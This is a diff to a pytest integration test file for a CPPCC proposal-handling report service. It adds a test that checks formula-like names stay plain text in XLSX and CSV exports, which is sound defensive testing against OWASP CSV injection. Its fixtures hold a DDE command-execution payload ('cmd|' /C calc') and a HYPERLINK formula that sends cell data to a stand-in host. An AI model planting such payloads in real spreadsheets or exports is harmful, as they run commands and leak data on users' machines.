@@ -45,7 +45,7 @@ pytestmark = pytest.mark.integration
 
 Serve = Callable[[FastAPI], AbstractAsyncContextManager[httpx.AsyncClient]]
 SESSION = "s-16-3"
-UNIT_NAMES = {"u1": "区发改局", "u2": "区住建局", "u3": "区教育局"}
+UNIT_NAMES = {"u1": "区发改局", "u2": "区住建局", "u3": "区教育局", "u9": "@SUM(1+1)*cmd|' /C calc'!A0"}
 BODY_NAME, SESSION_NAME = "政协江岸区委员会", "十六届三次会议"
 NUMBER_PREFIX = {"individual": "个", "joint": "联", "group": "集", "plenary": "建议案"}
 I1_TITLE, I4_TITLE = "关于优化营商环境的建议", "关于推进老旧小区改造的建议案"
@@ -316,6 +316,30 @@ async def test_csv_report(scene: Scene) -> None:
         rows[0][:3] == ["序号", "承办单位", "交办件数"] and rows[0][-1] == "综合得分(按时0.3/满意0.4/沟通0.1/结果0.2)"
     )
     assert rows[1:] == [[str(v) for v in row] for row in UNIT_ROWS]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+
+async def test_names_that_look_like_formulas_stay_text_in_xlsx_and_csv(scene: Scene) -> None:
+    """OWASP CSV injection: a category or unit named like a formula reaches the tables as text."""
+    y = Year("body-evil")
+    y.handled("i1", "individual", FORMULA, "u9", "A", rating=Rating.satisfied)
+    y.handled("i2", "individual", "+1-1", "u1", "A", rating=Rating.satisfied)
+    y.handled("i3", "individual", "\t-2", "u1", "B", rating=Rating.satisfied)
+    await scene.plant(y)
+    starts = ("=", "+", "-", "@", "\t", "\r")
+
+    book = load_workbook(io.BytesIO((await scene.report("xlsx", body="body-evil")).content))
+    texts = [c for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not [c.coordinate for c in texts if c.data_type == "f" or c.value.startswith(starts)]
+    names = {c.value for c in texts}
+    assert {"'" + FORMULA, "'+1-1", "'\t-2", "'" + UNIT_NAMES["u9"]} <= names
+
+    answer = await scene.report("csv", body="body-evil")
+    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    assert not [v for row in rows for v in row if v.startswith(starts)]
+    assert "'" + UNIT_NAMES["u9"] in [row[1] for row in rows[1:]]
 
 
 async def test_bad_requests_for_the_report(scene: Scene) -> None:
